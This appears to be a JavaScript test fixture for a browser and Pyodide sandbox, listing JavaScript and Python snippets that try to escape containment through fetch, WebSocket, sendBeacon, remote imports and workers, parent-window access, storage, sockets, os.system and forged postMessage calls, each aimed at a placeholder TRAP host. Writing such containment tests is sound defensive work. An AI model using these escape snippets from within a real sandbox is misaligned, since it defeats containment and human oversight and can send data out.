// Snippets that try to get out of the sandbox. Each `work` answers "reached" where it got what it wanted. TRAP stands for the
// URL of a server that nobody may reach, PAGE for the URL of the page around.

/** name -> the body of an async function in JavaScript; it throws, or answers something false, where it is held back. */
const SCRIPT = {
  "fetch to another host": "return (await fetch('TRAP')).type",
  "fetch without CORS": "return (await fetch('TRAP', { mode: 'no-cors' })).type",
  "fetch to the page's own host": "return (await fetch('PAGE', { mode: 'no-cors' })).type",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', 'TRAP', false); x.send(); return true",
  WebSocket: "return new Promise((ok, no) => { const s = new WebSocket('TRAP'.replace('http', 'ws')); s.onopen = ok; s.onerror = no; })",
  WebTransport: "const t = new WebTransport('TRAP'.replace('http:', 'https:')); await t.ready; return true",
  EventSource: "return new Promise((ok, no) => { const s = new EventSource('TRAP'); s.onopen = ok; s.onerror = no; })",
  sendBeacon: "return navigator.sendBeacon('TRAP', 'secret')",
  importScripts: "importScripts('TRAP/x.js'); return true",
  "import of a URL": "await import('TRAP/x.mjs'); return true",
  "import of data": "await import('data:text/javascript,export default 1'); return true",
  "import by a blob module": "await import(URL.createObjectURL(new Blob([\"import 'TRAP/x.mjs'\"], { type: 'text/javascript' }))); return true",
  "a worker from a URL": "return new Promise((ok, no) => { const w = new Worker('TRAP/x.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 500); })",
  "a worker from the page's host": "return new Promise((ok, no) => { const w = new Worker('PAGEmeasure/js-worker.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 500); })",
  "a worker in the worker": `return new Promise((ok, no) => {
    const text = "fetch('TRAP').then(() => postMessage(1), () => postMessage(0)); try { importScripts('TRAP/x.js'); postMessage(1) } catch {}";
    const w = new Worker(URL.createObjectURL(new Blob([text])));
    w.onmessage = ({ data }) => data ? ok(true) : no(); w.onerror = no; setTimeout(no, 1000);
  })`,
  "a worker from data": "return new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = ok; w.onerror = no; setTimeout(no, 500); })",
  "a font": "await new FontFace('x', 'url(TRAP/x.woff2)').load(); return true",
  "an image": "const i = new Image(); i.src = 'TRAP/x.png'; await i.decode(); return true",
  WebRTC: "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }); return true",
  "compiling from the network": "await WebAssembly.compileStreaming(fetch('TRAP/x.wasm')); return true",
  "the document": "return document.body",
  "the window around": "return parent.document || top.document || opener",
  "the address": "location.href = 'TRAP'; return location.href.startsWith('TRAP')",
  "another window": "return open('TRAP')",
  cookies: "return cookieStore && (await cookieStore.getAll(), true)",
  localStorage: "localStorage.setItem('a', 1); return true",
  indexedDB: "return new Promise((ok, no) => { const r = indexedDB.open('a'); r.onsuccess = ok; r.onerror = no; })",
  caches: "return await caches.open('a')",
  "private files": "return await navigator.storage.getDirectory()",
  "a service worker": "return await navigator.serviceWorker.register('PAGEx.js')",
  "a lock": "await new Promise((ok, no) => { navigator.locks.request('a', ok).catch(no); setTimeout(no, 500); }); return false",
  notifications: "return new Notification('a') && Notification.permission === 'granted'",
  "a message by itself": "postMessage({ id: 1, value: 'forged' }); return true",
  "a message by the prototype": "DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { id: 1, value: 'forged' }); return true",
  "eval of a fetch": "return (0, eval)(\"fetch('TRAP')\").then(() => true)",
};

/** name -> statements of an async function in Python; it raises, or returns something false, where it is held back. */
const PYTHON = {
  "js.fetch": "import js\nreturn (await js.fetch('TRAP')).status",
  pyfetch: "from pyodide.http import pyfetch\nreturn (await pyfetch('TRAP')).status",
  "open_url": "from pyodide.http import open_url\nreturn open_url('TRAP')",
  XMLHttpRequest: "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', 'TRAP', False)\nx.send()\nreturn True",
  "JavaScript by run_js": "from pyodide.code import run_js\nreturn (await run_js(\"fetch('TRAP')\")).status",
  "import by run_js": "from pyodide.code import run_js\nawait run_js(\"import('TRAP/x.mjs')\")\nreturn True",
  "importScripts": "import js\njs.importScripts('TRAP/x.js')\nreturn True",
  "a package": "import pyodide_js\nawait pyodide_js.loadPackage('TRAP/x-1-py3-none-any.whl')\nimport x\nreturn True",
  "a socket": `import socket
s = socket.create_connection(('127.0.0.1', int('TRAP'.rsplit(':', 1)[1])), 1)
s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
return s.recv(1)`,
  "the system": "import os\nreturn os.system('true') == 0",
  "a process": "import subprocess\nsubprocess.run(['true'], check=True)\nreturn True",
  "the document": "import js\nreturn js.document",
  "the window around": "import js\nreturn js.parent.document",
  indexedDB: "import js\nreturn js.indexedDB.open('a')",
  caches: "import js\nreturn await js.caches.open('a')",
  "a message by itself": "import js\njs.postMessage(1)\nreturn True",
};

const fill = (text, urls) => text.replaceAll("TRAP", urls.trap).replaceAll("PAGE", urls.page);
const indent = (text) => text.split("\n").map((line) => `        ${line}`).join("\n");

/** [{ name, text }] of programs in JavaScript. */
export const scripts = (urls) =>
  Object.entries(SCRIPT).map(([name, body]) => ({
    name,
    text: `async function reach() { ${fill(body, urls)} }
async function work() {
  try {
    return (await reach()) ? "reached" : "held back";
  } catch (error) {
    return "held back";
  }
}`,
  }));

/** [{ name, text }] of programs in Python. Those that wait for JavaScript's promises are only begun: the loop is a plain one. */
export const pythons = (urls) =>
  Object.entries(PYTHON).map(([name, body]) => ({
    name,
    text: `async def work(x):
    async def reach():
${indent(fill(body, urls))}
    try:
        return "reached" if await reach() else "held back"
    except BaseException:
        return "held back"
`,
  }));
